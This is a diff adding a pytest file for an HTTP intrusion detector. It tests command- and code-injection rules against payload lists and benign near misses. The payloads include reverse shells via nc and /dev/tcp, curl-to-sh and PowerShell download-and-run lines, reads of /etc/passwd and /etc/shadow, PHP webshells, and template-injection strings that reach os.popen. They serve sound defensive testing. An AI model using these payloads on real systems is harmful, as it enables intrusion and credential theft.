@@ -1,0 +1,130 @@
+"""Command and code injection (#12): each family's payloads are caught through a whole HTTP request, and
+benign near misses (prose about commands, code in posts, shell-like names, harmless template text, math)
+are not."""
+
+from __future__ import annotations
+
+from urllib.parse import quote
+
+import pytest
+
+from kubeguard.net.detect.code import code_injection
+from kubeguard.net.detect.http import inspect_http_request
+from kubeguard.net.detect.prefilter import needs_values
+from kubeguard.net.detect.shell import command_injection
+from kubeguard.net.types import HttpRequest
+
+CMDI = "HTTP command injection"
+CODE = "HTTP code injection"
+HEAD = [("Host", "shop.example.com"), ("User-Agent", "curl/8.5.0"), ("Accept", "*/*")]
+
+
+def in_query(value: str) -> HttpRequest:
+    return HttpRequest("GET", "/a?q=" + quote(value, safe=""), headers=HEAD)
+
+
+def in_json(value: str) -> HttpRequest:
+    import json
+
+    body = json.dumps({"comment": value}).encode()
+    return HttpRequest("POST", "/api", headers=[*HEAD, ("Content-Type", "application/json")], body=body,
+                       content_length=[str(len(body))])
+
+
+def rules(req: HttpRequest) -> set[str]:
+    found = {d.rule for d in inspect_http_request(req)}
+    assert found == {d.rule for d in inspect_http_request(req, prefilter=False)}  # the prefilter keeps it
+    return found
+
+
+COMMANDS = {
+    "windows": ["127.0.0.1 | dir", "x & net user", "x && net localgroup administrators", "x | type C:\\boot.ini",
+                "x & reg query HKLM\\Software\\Microsoft", "x;netsh firewall show state", "x | systeminfo",
+                "x & ipconfig /all", "x | tasklist /svc", "x & whoami /priv", "x|DIR C:\\",
+                "x & FOR /F %i IN ('whoami') DO echo %i", "x & powershell -nop -c iex(iwr http://10.0.0.9/a)",
+                "x & certutil -urlcache -f http://10.0.0.9/a.exe a.exe", "x| ver", "x & w^h^o^a^m^i"],
+    "quote break": ["' whoami", "\" whoami", "';whoami;'", "\";id;\"", "x';ls -la;'", "a\" | id #",
+                    "x' && cat /etc/passwd #"],
+    "newline": ["x\nid", "x\ncat /etc/passwd", "x\\nid\\n", "127.0.0.1\\nwhoami", "a;id\\n", "\\n/bin/ls -al\\n",
+                "x\r\nuname -a"],
+    "substitution": ["$(whoami)", "x$(id)", "`id`", "x`cat /etc/passwd`", "$(curl http://10.0.0.9/a|sh)",
+                     "$(cat$(id))", "`uname -a`", "<(id)"],
+    "evasion": [";w'h'o'am'i", ";c\\at /etc/passwd", ";cat${IFS}/etc/passwd", ";{cat,/etc/passwd}",
+                ";/???/c?t /etc/passwd", ";/usr/bin/id", ";wh$@oami", "|/bin/bash -i"],
+    "unix": ["; cat /etc/passwd", "| id", "&& sleep 5", "; ping -c 10 127.0.0.1", "|curl http://x.example/a.sh",
+             "; nc -e /bin/sh 10.0.0.1 4444", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "cat /etc/shadow",
+             "ls -la /", "() { :; }; /bin/bash -c id", "whoami", "; uname -a", "which nc"],
+}
+COMMAND_NEAR_MISSES = [
+    "R&D department network", "salt & type of pepper", "Tom & net profit 2024", "the dir command lists files",
+    "Smartwatch Models & More", "hp|gen|top|women", "MMB|SC|C1|MakeMyBook", "cat food", "find a store near me",
+    "set up your account", "I type fast; echo chambers are bad", "Q&A: who are we?", "Rock & Roll",
+    "dogs & cats", "id", "dir", "type", "sort=id", "ping pong", "sleep well", "print-ready.pdf",
+    "my_script.sh", "run.bat", "R&B; soul", "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36",
+    "it's a 'ls' command", "A & B | C", "Use `git status` to check", "Pay $(price) now",
+    "Terms & Conditions; Privacy", "back-end & front-end", "C:\\new folder\\notes.txt",
+]
+CODE_PAYLOADS = {
+    "php": ["<?php system($_GET['c']); ?>", "<?=`id`?>", ";system('id')", "system('cat /etc/passwd');",
+            "eval($_POST['x'])", "phpinfo()", "x';phpinfo();//", "${@print(md5(1))}", "{${phpinfo()}}",
+            "passthru('whoami')", "shell_exec(\"id\")", "assert($_REQUEST[1])", "exec /*x*/ ('ls')",
+            "base64_decode('aWQ=')", "file_put_contents('a.php', $_POST['d'])", "$_GET['f']($_GET['a'])"],
+    "ssi": ['<!--#exec cmd="/bin/cat /etc/passwd"-->', "<!--#include virtual=\"/etc/passwd\"-->",
+            '<!--#echo var="DOCUMENT_ROOT"-->', '<esi:include src="http://x.example/a"/>'],
+    "template": ["{{7*7}}", "${7*7}", "{{7*'7'}}", "#{7*7}", "<%= 7*7 %>", "{{config}}", "{{config.items()}}",
+                 "{{self}}", "{{''.__class__.__mro__[1].__subclasses__()}}", "${T(java.lang.Runtime).getRuntime()}",
+                 "{{request.application.__globals__}}", "{% import os %}{{os.popen('id').read()}}",
+                 "${class.getClassLoader()}", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex('id')}",
+                 "{{lipsum.__globals__.os.popen('id')}}", "{{ cycler.__init__.__globals__.os }}",
+                 "{php}echo `id`;{/php}", "{$smarty.version}", "<%= `ls` %>", "<%= File.open('/etc/passwd').read %>",
+                 "{{constructor.constructor('return process')()}}", "*{T(java.lang.Runtime).getRuntime()}",
+                 "{{ ['id']|filter('system') }}"],
+    "webshell": ["echo '<?php system($_GET[1]); ?>' > x.php", "x; echo PD9waHA= | base64 -d > shell.php",
+                 "curl http://10.0.0.9/s.txt -o /var/www/html/s.php", "printf '<%=x%>' > /srv/a.jsp"],
+}
+CODE_NEAR_MISSES = [
+    "Hello {{ first_name }}", "{{ user.name }}", "{% if user %}Hi{% endif %}", "${price}", "Total: ${total}",
+    "7*7=49", "3 * 4 + 5", "the file system (ext4) is fast", "eval (the evaluation) is due", "print (color)",
+    "my system (as designed)", "<?xml version=\"1.0\"?><a/>", "{\"a\": {\"b\": 1}}", "100% <b>bold</b>",
+    "Use <!-- comments --> in HTML", "#{hashtag}", "email me at a@b.com", "{{count}} items",
+    "include the file (see below)", "a > b", "saved to report.pdf", "echo location", "x.php?id=1",
+    "Our pricing: $5 * 3 seats", "Run the system check (weekly)", "I said 'exec' twice",
+]
+
+
+@pytest.mark.parametrize(("family", "value"), [(f, v) for f, vs in COMMANDS.items() for v in vs])
+def test_command_injection_detected(family: str, value: str) -> None:
+    assert command_injection(value), (family, value)
+    assert CMDI in rules(in_query(value)) and CMDI in rules(in_json(value))
+
+
+@pytest.mark.parametrize("value", COMMAND_NEAR_MISSES)
+def test_command_near_misses_not_flagged(value: str) -> None:
+    assert command_injection(value) is None
+    assert CMDI not in rules(in_query(value)) | rules(in_json(value))
+
+
+@pytest.mark.parametrize(("family", "value"), [(f, v) for f, vs in CODE_PAYLOADS.items() for v in vs])
+def test_code_injection_detected(family: str, value: str) -> None:
+    found = code_injection(value)
+    assert found is not None and found[0] == family, (value, found)
+    assert CODE in rules(in_query(value)) and CODE in rules(in_json(value))
+
+
+@pytest.mark.parametrize("value", CODE_NEAR_MISSES)
+def test_code_near_misses_not_flagged(value: str) -> None:
+    assert code_injection(value) is None
+    assert CODE not in rules(in_query(value)) | rules(in_json(value))
+
+
+def test_code_injection_alert_fields() -> None:
+    det = next(d for d in inspect_http_request(in_query("{{7*7}}")) if d.rule == CODE)
+    assert det.fields["http.code_family"] == "template" and "T1059" in det.mitre and det.severity.name == "CRITICAL"
+
+
+def test_query_keys_named_like_commands_stay_on_the_fast_path() -> None:
+    """`&type=`, `&id=`, JSON keys "id"/"type": the command gate reads split values, not raw delimiters."""
+    for req in [HttpRequest("GET", "/a?x=1&type=2&id=3&dir=asc", headers=HEAD),
+                HttpRequest("POST", "/api", headers=[*HEAD, ("Content-Type", "application/json")],
+                            body=b'{"id": 1, "type": "x", "set": "y"}', content_length=["34"])]:
+        assert not needs_values(req)
